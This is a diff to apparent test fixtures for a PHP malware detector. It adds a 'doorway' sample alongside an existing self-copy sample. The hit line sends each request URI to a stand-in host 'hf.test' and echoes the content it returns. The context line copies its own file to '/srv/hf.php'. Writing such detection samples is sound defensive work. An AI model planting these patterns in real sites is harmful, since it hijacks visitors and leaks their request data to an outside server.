@@ -132,4 +132,9 @@ export const capabilitySamples: readonly Sample[] = [
     hit: "copy(__FILE__, '/srv/hf.php');",
     clean: "copy('a.php', '/srv/hf.php');",
   },
+  {
+    rule: capabilityRule.doorway,
+    hit: "echo file_get_contents('http://hf.test/?u=' . urlencode($_SERVER['REQUEST_URI']));",
+    clean: "echo strlen(file_get_contents('http://hf.test/?u=' . urlencode($_SERVER['REQUEST_URI'])));",
+  },
 ]
